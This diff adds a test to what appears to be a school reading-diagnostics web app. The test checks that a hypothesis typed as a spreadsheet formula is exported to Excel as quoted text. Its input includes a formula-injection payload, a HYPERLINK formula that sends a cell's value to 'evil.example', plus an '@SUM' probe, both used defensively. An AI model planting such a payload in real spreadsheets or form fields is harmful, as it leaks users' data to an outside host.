@@ -88,3 +88,20 @@ def test_the_export_is_refused_to_a_person_without_a_role(login):
 def test_the_pages_download_link_keeps_the_chosen_options(login):
     page = login("analyst").get(PAGE + "?level=school&k=2").content.decode()
     assert "/priorities/reading/diagnostic.xlsx?level=school&amp;k=2" in page
+
+
+def test_a_hypothesis_typed_as_a_formula_is_exported_as_text_not_a_live_formula(login):
+    from tests.web.test_workbooks import formulas, text_cells_starting_like_formulas
+
+    owner = login("owner")
+    statement = '=HYPERLINK("http://evil.example/?d="&B2,"Open the evidence")'
+    fields = {"kind": "hypothesis", "statement": statement, "evidence": "@SUM(1+1)"}
+    assert owner.post(PAGE, {**fields, "status": "open"}).status_code == 302
+    content = owner.get("/priorities/reading/diagnostic.xlsx?level=district").content
+    assert formulas(content) == []
+    typed = text_cells_starting_like_formulas(content)
+    assert ("Hypotheses", statement, True) in typed
+    assert ("Hypotheses", "@SUM(1+1)", True) in typed
+    assert all(quoted for _sheet, _value, quoted in typed)
+    summary = dict(rows(load_workbook(io.BytesIO(content))["Summary"])[1:])
+    assert isinstance(summary["Latest value"], float)  # figures stay numbers
